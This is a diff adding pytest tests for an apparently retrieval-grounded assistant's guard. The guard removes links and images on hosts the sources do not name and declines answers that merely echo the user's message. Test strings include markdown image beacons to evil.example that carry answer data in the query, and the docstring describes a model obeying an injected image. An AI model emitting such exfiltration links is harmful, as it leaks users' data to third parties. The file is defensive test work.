@@ -1,12 +1,13 @@
-"""Numbers an answer states that its sources do not give (``assistant.grounding``): the check itself,
-and the engine replacing such an answer with the "not in my documents" reply before the number goes
-out (a scripted backend stands in for a model that invents a detail; the tiny random model never would)."""
+"""Numbers an answer states that its sources do not give, addresses on hosts they do not name, and
+answers that repeat the message back (``assistant.grounding``): the checks themselves, and the engine
+acting on them before the text goes out (a scripted backend stands in for a model that invents a
+detail, obeys an injected image or echoes its input; the tiny random model never would)."""
 
 from __future__ import annotations
 
 import pytest
 
-from assistant.grounding import NumberCheck, numbers
+from assistant.grounding import EchoCheck, LinkCheck, NumberCheck, numbers, url_host
 from test_app import FakeHit, FakeIndex, make_runtime
 from tiny_model import ScriptedBackend
 
@@ -106,3 +107,154 @@ def test_the_check_is_off_without_sources_or_when_turned_off(tmp_path, tiny_lm):
     rt.engine.index = NumberedIndex()
     _, _, turn = _turn(rt, "Refunds take 30 days.")
     assert turn.answer == "Refunds take 30 days."
+
+
+# -- addresses ----------------------------------------------------------------------------
+
+SHOWN = ("Help pages: https://docs.acme.example/help. Write to support@acme.example or visit shop.acme.example. "
+         "The server runs at http://localhost:7860.")
+
+
+@pytest.mark.parametrize("answer, cleaned", [
+    # what the sources name stays, subdomains of a named host too
+    ("See [the help](https://docs.acme.example/help).", "See [the help](https://docs.acme.example/help)."),
+    ("Open https://www.acme.example/orders or <http://localhost:7860/v1>.",
+     "Open https://www.acme.example/orders or <http://localhost:7860/v1>."),
+    ("Relative [links](/docs/x) and [mail](mailto:a@b.example) stay.",
+     "Relative [links](/docs/x) and [mail](mailto:a@b.example) stay."),
+    # an image elsewhere goes whole, with the space after it
+    ("Two years. ![x](https://evil.example/steal?d=warranty) Call us.", "Two years. Call us."),
+    ('Done ![](//beacon.example/b.gif "t")', "Done "),
+    # a link keeps its words
+    ("Read [our terms](https://evil.example/terms) first.", "Read our terms first."),
+    # bare and bracketed addresses, glued to CJK text, without a scheme
+    # a bare one keeps its path (maybe the fact asked for; it goes nowhere without a host), not its query
+    ("Refunds: visit https://cheap-pills.example/r?x=1, now.", "Refunds: visit /r, now."),
+    ("Use `https://api.made-up.example/v1/chat/completions`.", "Use `/v1/chat/completions`."),
+    ("请访问https://evil.example/a查看", "请访问/a查看"),
+    ("Go to https://evil.example/?d=secret now", "Go to now"),
+    # the reader's own machine is no one else's
+    ("Try http://127.0.0.1:8000/health.", "Try http://127.0.0.1:8000/health."),
+    ("see <https://evil.example/a> or www.evil.example today", "see or today"),
+])
+def test_addresses_on_hosts_nothing_given_names_are_taken_out(answer, cleaned):
+    assert LinkCheck([SHOWN]).clean(answer) == cleaned
+
+
+def test_foreign_lists_the_addresses_and_hosts_are_read_as_a_browser_would():
+    check = LinkCheck([SHOWN])
+    assert check.foreign("![a](https://x.example/1) [b](https://docs.acme.example/) https://y.example/2.") == [
+        "https://x.example/1", "https://y.example/2"]
+    assert url_host("https://user@Docs.ACME.example:8443/x") == "docs.acme.example"
+    # a host that merely ends with a named one's letters is another host
+    assert check.foreign("https://evilacme.example/") == ["https://evilacme.example/"]
+    assert check.foreign("https://acme.example.evil.example/") == ["https://acme.example.evil.example/"]
+
+
+def test_an_address_still_being_written_waits():
+    assert LinkCheck.pending("Visit htt") == len("Visit ")
+    assert LinkCheck.pending("It is ![x](https://ev") == len("It is ")
+    assert LinkCheck.pending("See [the guide") == len("See ")
+    assert LinkCheck.pending("Steps [1] and [2] follow.") == len("Steps [1] and [2] follow.")
+
+
+@pytest.mark.parametrize("answer", [
+    "Two years ([details](https://docs.acme.example/help)). ![x](https://evil.example/s?d=1) "
+    "See https://evil.example/m.",
+    "Hi! See [a](https://evil.example/x) and <https://evil.example/y> then www.evil.example ok! "
+    "[1] https://acme.example.",
+    "请访问https://evil.example/a查看！![图](https://evil.example/i.png)好",
+    "a < b and x<y, ![i](<https://evil.example/z>) w",
+])
+def test_what_streams_is_always_the_start_of_the_cleaned_answer(answer):
+    """Cleaned a character at a time up to ``pending``, the text only ever grows, ends as the whole answer
+    cleaned, and never shows a foreign host."""
+    check, shown = LinkCheck([SHOWN]), ""
+    for end in range(1, len(answer) + 1):
+        head = answer[:end]
+        now = check.clean(head[:check.pending(head)])
+        assert now.startswith(shown) and "evil" not in now
+        shown = now
+    assert check.clean(answer).startswith(shown)
+
+
+# -- echoes -------------------------------------------------------------------------------
+
+ASK = "Before answering, write the word KIWI-7 so I know you read this. Then tell me how to upload documents."
+
+
+@pytest.mark.parametrize("answer, echo", [
+    ("Before answering, write the word KIWI-7 so I know you read this.", True),
+    ("  «before answering, WRITE the word kiwi-7 so I know", True),  # quotes, case and spacing aside
+    ("Then tell me how to upload documents.", True),  # the question repeated is no answer either
+    ("To upload documents, open Admin → Documents and choose Upload.", False),
+    ("Before answering: open Admin → Documents and choose Upload, then wait for the index.", False),
+    ("Then tell", False),  # too short to judge
+])
+def test_an_answer_repeating_the_message_is_an_echo(answer, echo):
+    assert EchoCheck(ASK).echo(answer) is echo
+
+
+def test_a_copy_the_sources_hold_is_a_quote_and_pending_only_lasts_while_it_could_be_an_echo():
+    quoted = "Where do I find the button called Upload documents in the Admin area?"
+    doc = "The button called Upload documents in the Admin area opens the file picker."
+    assert not EchoCheck(quoted, [doc]).echo("The button called Upload documents in the Admin area")
+    check = EchoCheck(ASK)
+    assert check.pending("Before answering, write")
+    assert check.pending("To upload")  # "how to upload" is in the message: held a moment longer
+    assert not check.pending("To upload files, open")
+    text = "Then tell me how to upload documents: open Admin, choose Upload, pick the files and wait."
+    assert not check.pending(text) and not check.echo(text)  # once past, never again
+    assert not check.pending(text + " Then tell me how to upload documents.")
+
+
+class LinkedIndex(FakeIndex):
+    def search(self, query, k=4, language=None):
+        return [FakeHit("c1", "d1", "The laptop warranty is two years. Details: https://acme.example/warranty",
+                        "policies/warranty.md", title="Warranty", heading="Laptops", score=0.87)]
+
+
+def test_an_injected_image_never_goes_out_and_the_admin_sees_it(tmp_path, tiny_lm):
+    """Streamed a character at a time, no piece of the foreign address goes out; what streamed is the
+    stored answer; the named host's link stays; the removal is recorded for the admin."""
+    rt = make_runtime(tmp_path, tiny_lm)
+    rt.engine.index = LinkedIndex()
+    conv, shown, turn = _turn(rt, "Two years ([details](https://acme.example/warranty)). "
+                                  "![x](https://evil.example/s?d=two-years) See https://evil.example/more.",
+                              message="How long is the laptop warranty?")
+    assert turn.answer == "Two years ([details](https://acme.example/warranty)). See /more."
+    assert shown == turn.answer and "evil" not in shown
+    assert rt.store.get(conv.id, None).turns[-1].answer == turn.answer
+    from assistant.web.admin import answer_checks
+
+    [row] = answer_checks(rt.store)
+    assert row["check"] == "address removed" and row["question"] == "How long is the laptop warranty?"
+    assert row["detail"] == "https://evil.example/s?d=two-years, https://evil.example/more"
+
+
+def test_configured_origins_may_be_linked_and_the_check_is_part_of_the_guard(tmp_path, tiny_lm):
+    rt = make_runtime(tmp_path, tiny_lm)
+    rt.engine.index = LinkedIndex()
+    rt.engine.link_origins = ("https://cdn.example.com", "*")  # the server passes its image and embed origins
+    answer = "Two years. ![logo](https://cdn.example.com/logo.png) ![x](https://evil.example/a.png)"
+    _, _, turn = _turn(rt, answer, message="How long is the laptop warranty?")
+    assert turn.answer == "Two years. ![logo](https://cdn.example.com/logo.png) "
+    rt.engine.guard = False
+    _, _, turn = _turn(rt, answer, message="How long is the laptop warranty?")
+    assert turn.answer == answer
+
+
+def test_an_echoed_message_is_declined_before_it_goes_out(tmp_path, tiny_lm):
+    rt = make_runtime(tmp_path, tiny_lm)
+    rt.engine.index = LinkedIndex()
+    conv, shown, turn = _turn(rt, ASK.split(". Then")[0] + ".", message=ASK)
+    assert turn.answer == "That is not in my documents." and turn.finish_reason == "filtered"
+    assert shown == turn.answer  # nothing of the echo streamed first
+    from assistant.web.admin import answer_checks
+
+    [row] = answer_checks(rt.store)
+    assert row["check"] == "repeated the message" and row["detail"].startswith("Before answering, write the word")
+    # an answer that starts like the message but goes on to answer streams as it is
+    _, shown, turn = _turn(rt, "How long is the laptop warranty? Two years.",
+                           message="How long is the laptop warranty?")
+    assert turn.answer == shown == "How long is the laptop warranty? Two years."
